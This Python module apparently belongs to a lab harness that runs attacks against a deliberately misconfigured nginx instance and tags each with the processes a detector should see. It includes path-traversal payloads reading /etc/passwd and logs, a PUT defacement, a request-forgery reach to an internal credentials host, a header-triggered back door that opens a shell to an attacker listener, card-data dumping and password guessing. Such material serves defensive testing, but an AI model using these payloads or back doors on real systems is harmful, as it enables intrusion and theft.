"""Break-ins by way of nginx: its configuration's holes, and code that runs in a worker."""

import base64
import random
import socket

from .attacker import Home
from .base import Attack, AttackFailed, Instance
from .http_client import Browser, fetch, must_show

SERVER = "process /usr/sbin/nginx"


def credentials(user: str, password: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


def traverse(nginx: Instance) -> None:
    must_show(fetch(nginx.port, "/media../etc/passwd"), b"root:x:0")


def read_log(nginx: Instance) -> None:
    """With the requests of others; the worker itself writes it."""
    must_show(fetch(nginx.port, "/media../var/log/nginx/access.log"), b"HTTP/1.1")


def deface(nginx: Instance) -> None:
    with Browser(nginx.port, random.Random(1)) as browser:
        browser.ask("PUT", "/uploads../site/index.html", b"owned")
    if nginx.read("/srv/site/index.html") != b"owned":
        raise AttackFailed("the page is as it was")


def reach_inside(nginx: Instance) -> None:
    """Another host answers that only the server can reach."""

    def answer(connection: socket.socket) -> bytes:
        asked = connection.recv(65536)
        connection.sendall(b"HTTP/1.0 200 OK\r\n\r\ncloud credentials")
        return asked

    with Home(talk=answer) as inside:
        must_show(fetch(nginx.port, f"/partner/{inside.host}:{inside.port}/latest"), b"cloud credentials")


def _order(nginx: Instance, home: Home, way: str) -> None:
    fetch(nginx.port, "/", {"X-Home": f"{way} {home.host} {home.port}"})


def run_shell(nginx: Instance) -> None:
    with Home(b"id; read line < /etc/passwd; echo $line; echo END; exit\n") as home:
        _order(nginx, home, "shell")
        home.must_receive(b"root:x:0")


def run_in_process(nginx: Instance) -> None:
    with Home(b"go\n") as home:
        _order(nginx, home, "quiet")
        home.must_receive(b"root:x:0")


def dump_orders(nginx: Instance) -> None:
    with Browser(nginx.port, random.Random(2)) as browser:
        for order in range(1, 1001):
            must_show(browser.get(f"/orders/{order}.txt"), b"card 4242")


def guess_passwords(nginx: Instance) -> None:
    with Browser(nginx.port, random.Random(3)) as browser:
        for number in range(1000):
            status, _ = browser.ask("GET", "/staff/", headers=credentials("ann", f"guess{number}"))
            if status != 401:
                raise AttackFailed(f"status {status}")


ATTACKS = (
    Attack("path traversal", "an alias without its slash: /media../etc/passwd; no new program, no new call", traverse,
           ("/etc/passwd", SERVER), reliable=True),
    Attack("path traversal, the log", "the same reads the access log, which the worker itself writes", read_log, (SERVER,)),
    Attack("defacement", "PUT by the same hole over the shop's first page; no new program, no new call", deface, (SERVER,),
           reliable=True),
    Attack("request to another host", "the proxy of partners asks what only the server can reach", reach_inside, (SERVER,),
           reliable=True),
    Attack("back door, shell", "code in a worker gives a shell away", run_shell, ("/usr/bin/dash", "/usr/bin/id"),
           reliable=True),
    Attack("back door, in process", "code in a worker connects out and reads /etc/passwd; no new program", run_in_process,
           (SERVER,), reliable=True),
    Attack("dump of all orders", "1000 pages that anyone may see, one after another; nothing new", dump_orders, (SERVER,)),
    Attack("password guessing", "1000 wrong passwords for one user", guess_passwords, (SERVER,)),
)
